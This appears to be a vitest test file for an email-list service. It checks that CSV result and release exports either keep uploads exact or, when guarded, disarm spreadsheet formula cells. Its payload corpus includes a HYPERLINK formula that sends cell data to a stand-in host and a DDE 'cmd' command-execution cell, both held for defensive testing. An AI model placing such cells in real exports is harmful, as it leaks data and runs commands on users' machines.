// Cells that a spreadsheet would run: exact in every file, disarmed where that was asked for, addresses never.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { completeList, openTestInstallation, type TestInstallation } from '../support/installation.ts';
import { importConsents, makeRelease, makeSender, WHOLE_DECLARATION } from './made-release.ts';

/** What a spreadsheet takes for a formula, by its first character. */
const FORMULAS = [
  '=HYPERLINK("http://x.example/?"&A1)',
  '=1+1',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  `=cmd|'/C calc'!A0`,
  '=a;b,c\td',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d2',
  '\uff20SUM(A1)',
];
const HARMLESS = ["'=1", ' =1', 'a=1', '"=1"', '1-2', '', '\uff1c', '{=1}'];
const CELLS = [...FORMULAS, ...HARMLESS];

/** Addresses that begin like formulas; each is one that mail can be sent to. */
const ADDRESSES = ['=cmd@gmail.com', '+1@gmail.com', '-2@gmail.com', `=cmd|'/C'@gmail.com`];
/** Formulas in the place of an address, as a web form takes them. */
const NO_ADDRESSES = ['=HYPERLINK("http://x.example","a@gmail.com")', '@SUM(A1)', '=1+1'];

let sluice: TestInstallation;
beforeAll(async () => {
  sluice = await openTestInstallation();
});
afterAll(() => sluice.close());

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
const readCsv = (text: string, delimiter: string) =>
  parse(text, { bom: true, delimiter, record_delimiter: '\r\n' }) as string[][];

/** One row for each cell, with an address that begins like a formula too. */
function corpusRows(delimiter: string): string[] {
  return CELLS.map((cell, at) =>
    [ADDRESSES[at % ADDRESSES.length] ?? '', quoted(cell), String(at)].join(delimiter),
  );
}

const uploadOf = (rows: readonly string[], delimiter: string) =>
  [['email', 'note', 'n'].join(delimiter), ...rows, ''].join('\r\n');

async function resultsText(file: string, query = ''): Promise<string> {
  const { id } = await completeList(sluice, file);
  const answer = await sluice.request(`/v1/lists/${id}/results${query}`);
  return Buffer.from(await answer.arrayBuffer()).toString('utf8');
}

describe("T27 · a cell runs as a formula in the marketer's spreadsheet", () => {
  it.each([',', ';', '\t'])(
    'results with %j between cells are the upload, byte for byte',
    async (delimiter) => {
      const rows = corpusRows(delimiter);
      let rest = await resultsText(uploadOf(rows, delimiter));
      for (const row of rows) {
        const at = rest.indexOf(`\r\n${row}${delimiter}`);
        expect(at, row).toBeGreaterThan(0);
        rest = rest.slice(at + 2 + row.length + delimiter.length);
        expect(rest).toMatch(/^(deliverable|risky)/);
      }
    },
  );

  it.each([',', ';', '\t'])(
    'guarded with %j between cells no formula runs, and every address is itself',
    async (delimiter) => {
      const text = await resultsText(uploadOf(corpusRows(delimiter), delimiter), '?guard=formulas');
      const [, ...rows] = readCsv(text, delimiter);
      expect(rows.map(([address]) => address)).toEqual(
        CELLS.map((_, at) => ADDRESSES[at % ADDRESSES.length]),
      );
      expect(rows.map(([, note]) => note)).toEqual([...FORMULAS.map((cell) => `'${cell}`), ...HARMLESS]);
    },
  );

  it('guarded, a formula in the place of an address is disarmed as well', async () => {
    const file = uploadOf(
      [...ADDRESSES, ...NO_ADDRESSES].map((cell) => `${quoted(cell)},x,1`),
      ',',
    );
    const [, ...rows] = readCsv(await resultsText(file, '?guard=formulas'), ',');
    expect(rows.map(([address]) => address)).toEqual([
      ...ADDRESSES,
      ...NO_ADDRESSES.map((cell) => `'${cell}`),
    ]);
    const [, ...exact] = readCsv(await resultsText(file), ',');
    expect(exact.map(([address]) => address)).toEqual([...ADDRESSES, ...NO_ADDRESSES]);
  });

  it('a released file is exact, because a sender mails what stands in it', async () => {
    await importConsents(sluice, ADDRESSES);
    const people = CELLS.map((cell, at) => `${ADDRESSES[at] ?? `p${at}@gmail.com`},${quoted(cell)},${at}`);
    await importConsents(
      sluice,
      CELLS.map((_, at) => `p${at}@gmail.com`),
    );
    const { id } = await completeList(sluice, uploadOf(people, ','));
    const request = { list: id, sender: await makeSender(sluice), ...WHOLE_DECLARATION, columns: ['note'] };
    const release = await makeRelease(sluice, request);
    expect(release.counts).toEqual({ released: CELLS.length, held: 0, excluded: 0 });
    const answer = await sluice.request(`/v1/releases/${release.id}/file`);
    const [, ...rows] = readCsv(await answer.text(), ',');
    expect(rows).toEqual(
      CELLS.map((cell, at) => [String(at + 1), ADDRESSES[at] ?? `p${at}@gmail.com`, cell]),
    );
  });

  it('every download is kept by the browser and shown by none', async () => {
    const { id } = await completeList(sluice, 'email\nann@gmail.com\n"open\n');
    const request = { list: id, sender: await makeSender(sluice), ...WHOLE_DECLARATION };
    const release = await makeRelease(sluice, request);
    for (const path of [
      `/v1/lists/${id}/results`,
      `/v1/lists/${id}/results?format=json`,
      `/v1/lists/${id}/problems`,
      `/v1/releases/${release.id}/file`,
      `/v1/releases/${release.id}/manifest`,
    ]) {
      const { status, headers } = await sluice.request(path);
      expect({ path, status, ...Object.fromEntries(headers) }).toMatchObject({
        status: 200,
        'content-disposition': expect.stringMatching(
          /^attachment; filename="(lst|rel)_[0-9a-f]{32}[\w-]*\.(csv|json)"$/,
        ),
        'x-content-type-options': 'nosniff',
        'cache-control': 'no-store',
      });
    }
  });
});
